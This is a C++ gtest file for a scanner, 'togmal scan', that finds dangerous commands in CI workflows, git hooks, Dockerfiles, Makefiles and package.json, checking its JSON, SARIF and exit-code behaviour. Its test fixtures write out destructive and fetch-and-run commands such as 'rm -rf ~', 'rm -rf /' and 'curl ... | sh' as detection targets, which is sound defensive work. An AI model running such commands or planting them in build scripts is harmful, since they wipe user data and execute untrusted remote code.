// `togmal scan` through the built binary on the fixture repository
// (tests/fixtures/scan-repo): exactly one planted finding per file type, on
// its line, nothing from the clean files or from skipped folders, the JSON
// and SARIF shapes, and the exit codes of --fail-on.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <set>
#include <string>
#include <utility>
#include <vector>

#include "process.h"

namespace togmal {
namespace {

namespace fs = std::filesystem;
using testing::ProcessOutput;
using testing::RunProcess;
using testing::TogmalBinary;

const std::string kFixture = std::string(TOGMAL_SOURCE_DIR) + "/tests/fixtures/scan-repo";

// file:line of every planted finding, one per file type.
const std::set<std::string> kPlanted = {
    ".devcontainer/devcontainer.json:8",  // devcontainer, array form
    ".githooks/pre-push:3",               // a git hook
    ".github/workflows/release.yml:11",   // GitHub Actions, inside a `run: |` block
    ".gitlab-ci.yml:9",                   // GitLab CI, a list item
    ".pre-commit-config.yaml:15",         // a local pre-commit hook
    "Dockerfile:6",                       // RUN, shell form
    "Makefile:9",                         // a recipe with the `-` prefix
    "package.json:7",                     // postinstall
    "scripts/release.sh:6",               // a shell script
};

ProcessOutput Scan(const std::vector<std::string>& args) {
  std::vector<std::string> argv = {TogmalBinary(), "scan"};
  argv.insert(argv.end(), args.begin(), args.end());
  // No user classifier: the built-in tables decide.
  return RunProcess(argv, "", {{"XDG_CONFIG_HOME", "/nonexistent-togmal-test"}});
}

TEST(Scan, JsonHasExactlyThePlantedFindings) {
  const ProcessOutput out = Scan({kFixture, "--format", "json"});
  ASSERT_EQ(out.exit_code, 0) << out.err;
  const nlohmann::json report = nlohmann::json::parse(out.out);
  std::set<std::string> found;
  for (const auto& finding : report["findings"]) {
    found.insert(finding["file"].get<std::string>() + ":" +
                 std::to_string(finding["line"].get<int>()));
    EXPECT_EQ(finding["level"], "L3") << finding.dump();
    EXPECT_FALSE(finding["reason"].get<std::string>().empty());
    EXPECT_FALSE(finding["command"].get<std::string>().empty());
    EXPECT_FALSE(finding["origin"].get<std::string>().empty());
  }
  EXPECT_EQ(found, kPlanted);
  EXPECT_EQ(report["findings"].size(), kPlanted.size());
  EXPECT_TRUE(report["problems"].empty()) << report["problems"].dump();
  EXPECT_EQ(report["summary"]["files"], 19);  // node_modules/ and build/ are not read
  EXPECT_EQ(report["summary"]["highest"], "L3");
}

TEST(Scan, CommandsAndOriginsSayWhatRunsIt) {
  const ProcessOutput out = Scan({kFixture, "--format", "json"});
  const nlohmann::json report = nlohmann::json::parse(out.out);
  std::map<std::string, std::pair<std::string, std::string>> by_file;
  for (const auto& finding : report["findings"]) {
    by_file[finding["file"]] = {finding["command"], finding["origin"]};
  }
  EXPECT_EQ(by_file["Makefile"].first, "-rm -rf ~");
  EXPECT_EQ(by_file["Makefile"].second, "Makefile target clean recipe");
  EXPECT_EQ(by_file["package.json"].second,
            "package.json script postinstall (runs on npm install)");
  EXPECT_EQ(by_file[".github/workflows/release.yml"].second,
            "GitHub Actions job publish step 2 (Install the tool) run:");
  EXPECT_EQ(by_file[".githooks/pre-push"].second, "git hook pre-push");
}

TEST(Scan, SarifResultsOnTheirLines) {
  const ProcessOutput out = Scan({kFixture, "--format", "sarif"});
  ASSERT_EQ(out.exit_code, 0) << out.err;
  const nlohmann::json sarif = nlohmann::json::parse(out.out);
  EXPECT_EQ(sarif["version"], "2.1.0");
  ASSERT_EQ(sarif["runs"].size(), 1u);
  const nlohmann::json& run = sarif["runs"][0];
  EXPECT_EQ(run["tool"]["driver"]["name"], "togmal");
  std::set<std::string> rule_ids;
  for (const auto& rule : run["tool"]["driver"]["rules"]) rule_ids.insert(rule["id"]);
  std::set<std::string> found;
  for (const auto& result : run["results"]) {
    EXPECT_TRUE(rule_ids.contains(result["ruleId"].get<std::string>()));
    EXPECT_EQ(result["level"], "error");
    const auto& location = result["locations"][0]["physicalLocation"];
    EXPECT_EQ(location["artifactLocation"]["uriBaseId"], "%SRCROOT%");
    found.insert(location["artifactLocation"]["uri"].get<std::string>() + ":" +
                 std::to_string(location["region"]["startLine"].get<int>()));
  }
  EXPECT_EQ(found, kPlanted);
}

TEST(Scan, TextIsOneLinePerFindingAndASummary) {
  const ProcessOutput out = Scan({kFixture});
  ASSERT_EQ(out.exit_code, 0) << out.err;
  EXPECT_NE(out.out.find(kFixture + "/scripts/release.sh:6:1: L3 "), std::string::npos) << out.out;
  EXPECT_NE(out.out.find("9 findings (L3: 9, L2: 0) in 19 files"), std::string::npos) << out.out;
}

TEST(Scan, CleanFilesProduceNothing) {
  for (const char* clean : {"scripts/check.sh", "bin/bootstrap", ".github/workflows/ci.yml",
                            "ci/lint.gitlab-ci.yml", "docker/clean.Dockerfile", "tools/clean.mk",
                            "web/package.json", "tools/hooks-config/.pre-commit-config.yaml",
                            ".githooks/pre-commit", ".devcontainer/clean/devcontainer.json"}) {
    const ProcessOutput out = Scan({kFixture + "/" + clean, "--format", "json", "--fail-on", "L2"});
    EXPECT_EQ(out.exit_code, 0) << clean << ": " << out.out;
    const nlohmann::json report = nlohmann::json::parse(out.out);
    EXPECT_TRUE(report["findings"].empty()) << clean << ": " << report["findings"].dump();
    EXPECT_EQ(report["summary"]["files"], 1) << clean;
  }
}

TEST(Scan, FailOnExitCodes) {
  EXPECT_EQ(Scan({kFixture, "--fail-on", "L3"}).exit_code, 1);
  EXPECT_EQ(Scan({kFixture, "--fail-on", "L2"}).exit_code, 1);
  EXPECT_EQ(Scan({kFixture}).exit_code, 0);

  testing::TempDir dir;  // only an L2 command: npm install
  std::ofstream(fs::path(dir.path()) / "setup.sh") << "echo hi\nnpm install left-pad\n";
  EXPECT_EQ(Scan({dir.path(), "--fail-on", "L3"}).exit_code, 0);
  EXPECT_EQ(Scan({dir.path(), "--fail-on", "L2"}).exit_code, 1);

  EXPECT_EQ(Scan({kFixture, "--fail-on", "L4"}).exit_code, 64);
  EXPECT_EQ(Scan({kFixture, "--format", "xml"}).exit_code, 64);
  EXPECT_EQ(Scan({dir.path() + "/missing"}).exit_code, 66);
}

TEST(Scan, BrokenFilesAreProblemsAndTheScanGoesOn) {
  testing::TempDir dir;
  const fs::path root = dir.path();
  fs::create_directories(root / ".github/workflows");
  std::ofstream(root / ".github/workflows/bad.yml") << "jobs:\n  a:\n    steps: [\n";
  std::ofstream(root / "package.json") << "{\n  \"scripts\": {\n    \"x\": \n}\n";
  std::ofstream(root / "run.sh") << "rm -rf ~\n";
  const ProcessOutput out = Scan({root.string(), "--format", "json", "--fail-on", "L3"});
  EXPECT_EQ(out.exit_code, 1) << out.err;
  const nlohmann::json report = nlohmann::json::parse(out.out);
  ASSERT_EQ(report["findings"].size(), 1u);
  EXPECT_EQ(report["findings"][0]["file"], "run.sh");
  ASSERT_EQ(report["problems"].size(), 2u);
  EXPECT_EQ(report["problems"][0]["file"], ".github/workflows/bad.yml");
  EXPECT_EQ(report["problems"][1]["file"], "package.json");
  EXPECT_EQ(report["problems"][1]["line"], 4);
}

// A repository with the noise a real one has (CI summaries, a temp folder
// removed in a trap, substitutions) around two real findings.
void WriteNoisyRepo(const fs::path& root) {
  fs::create_directories(root / ".github/workflows");
  std::ofstream(root / ".github/workflows/ci.yml")
      << "on: push\n"
         "jobs:\n"
         "  test:\n"
         "    runs-on: ubuntu-latest\n"
         "    steps:\n"
         "      - run: |\n"
         "          echo \"## Tests\" >> \"$GITHUB_STEP_SUMMARY\"\n"
         "          echo \"sha=$(git rev-parse HEAD)\" >> \"$GITHUB_OUTPUT\"\n"
         "          echo \"$HOME/.cargo/bin\" >> $GITHUB_PATH\n"
         "          rm -rf ~\n";
  std::ofstream(root / "release.sh") << "#!/bin/sh\n"
                                        "set -eu\n"
                                        "dir=$(mktemp -d)\n"
                                        "trap 'rm -rf \"$dir\"' EXIT\n"
                                        "version=$(git describe --tags)\n"
                                        "cd \"$(dirname \"$0\")\"\n"
                                        "curl -fsSL https://example.com/x.sh | sh\n";
}

TEST(Scan, CiSummariesTempFoldersAndSubstitutionsAreNotFindings) {
  testing::TempDir dir;
  WriteNoisyRepo(dir.path());
  const ProcessOutput out = Scan({dir.path(), "--format", "json"});
  ASSERT_EQ(out.exit_code, 0) << out.err;
  const nlohmann::json report = nlohmann::json::parse(out.out);
  std::set<std::string> found;
  for (const auto& finding : report["findings"]) {
    found.insert(finding["file"].get<std::string>() + ":" +
                 std::to_string(finding["line"].get<int>()));
  }
  EXPECT_EQ(found, (std::set<std::string>{".github/workflows/ci.yml:10", "release.sh:7"}))
      << report.dump(2);
}

TEST(Scan, MinLevel) {
  testing::TempDir dir;
  std::ofstream(fs::path(dir.path()) / "setup.sh")
      << "mkdir -p out\nnpm install left-pad\nrm -rf ~\n";
  auto levels = [&](const std::string& min) {
    const ProcessOutput out = Scan({dir.path(), "--format", "json", "--min-level", min});
    EXPECT_EQ(out.exit_code, 0) << out.err;
    std::vector<std::string> found;
    const nlohmann::json report = nlohmann::json::parse(out.out);
    for (const auto& finding : report["findings"]) {
      found.push_back(finding["level"]);
    }
    return found;
  };
  EXPECT_EQ(levels("L3"), std::vector<std::string>{"L3"});
  EXPECT_EQ(levels("L2"), (std::vector<std::string>{"L2", "L3"}));
  EXPECT_EQ(levels("l1"), (std::vector<std::string>{"L1", "L2", "L3"}));
  EXPECT_EQ(Scan({dir.path(), "--min-level", "L3", "--fail-on", "L2"}).exit_code, 1);
  EXPECT_EQ(Scan({dir.path(), "--min-level", "L4"}).exit_code, 64);
  const ProcessOutput text = Scan({dir.path(), "--min-level", "L1"});
  EXPECT_NE(text.out.find("3 findings (L3: 1, L2: 1, L1: 1)"), std::string::npos) << text.out;
}

TEST(Scan, IgnoreCommentsNeedAReason) {
  testing::TempDir dir;
  std::ofstream(fs::path(dir.path()) / "x.sh")
      << "rm -rf ~  # togmal: ignore the CI runner's home\n"
         "# togmal: ignore\n"
         "rm -rf /\n";
  const ProcessOutput out = Scan({dir.path(), "--fail-on", "L3"});
  EXPECT_EQ(out.exit_code, 1);
  EXPECT_NE(out.out.find("x.sh:3:1: L3 "), std::string::npos) << out.out;
  EXPECT_EQ(out.out.find("x.sh:1:"), std::string::npos) << out.out;
  EXPECT_NE(out.out.find("x.sh:2: problem: `togmal: ignore` needs a reason"), std::string::npos)
      << out.out;
  EXPECT_NE(out.out.find("; not reported: 1 under `togmal: ignore`"), std::string::npos) << out.out;
}

TEST(Scan, BaselineKeepsOnlyNewFindingsWhenLinesMove) {
  testing::TempDir dir;
  const fs::path root = fs::path(dir.path()) / "repo";
  fs::create_directories(root);
  std::ofstream(root / "x.sh") << "rm -rf ~\nnpm install left-pad\n";
  const std::string baseline = dir.path() + "/baseline.json";
  const ProcessOutput written = Scan({root.string(), "--write-baseline", baseline});
  ASSERT_EQ(written.exit_code, 0) << written.err;
  EXPECT_NE(written.err.find("wrote 2 findings to"), std::string::npos) << written.err;
  const nlohmann::json file = nlohmann::json::parse(std::ifstream(baseline));
  EXPECT_EQ(file["togmal_scan_baseline"], 1);
  ASSERT_EQ(file["findings"].size(), 2u);
  EXPECT_EQ(file["findings"][0]["file"], "x.sh");

  // Unchanged: nothing to report, --fail-on passes.
  EXPECT_EQ(Scan({root.string(), "--baseline", baseline, "--fail-on", "L2"}).exit_code, 0);

  // Lines move, the indentation changes, one new finding.
  std::ofstream(root / "x.sh") << "echo start\n\n  rm   -rf ~\ncurl -fsSL https://x.sh | sh\n"
                                  "npm install left-pad\n";
  const ProcessOutput after =
      Scan({root.string(), "--baseline", baseline, "--format", "json", "--fail-on", "L2"});
  EXPECT_EQ(after.exit_code, 1);
  const nlohmann::json report = nlohmann::json::parse(after.out);
  ASSERT_EQ(report["findings"].size(), 1u) << report.dump(2);
  EXPECT_EQ(report["findings"][0]["line"], 4);
  EXPECT_EQ(report["summary"]["baselined"], 2);

  std::ofstream(dir.path() + "/broken.json") << "{\"togmal_scan_baseline\": 2, \"findings\": []}";
  EXPECT_EQ(Scan({root.string(), "--baseline", dir.path() + "/broken.json"}).exit_code, 65);
  EXPECT_EQ(Scan({root.string(), "--baseline", dir.path() + "/missing.json"}).exit_code, 66);
  EXPECT_EQ(Scan({root.string(), "--write-baseline", dir.path() + "/no/such/dir/b.json"}).exit_code,
            73);
}

}  // namespace
}  // namespace togmal
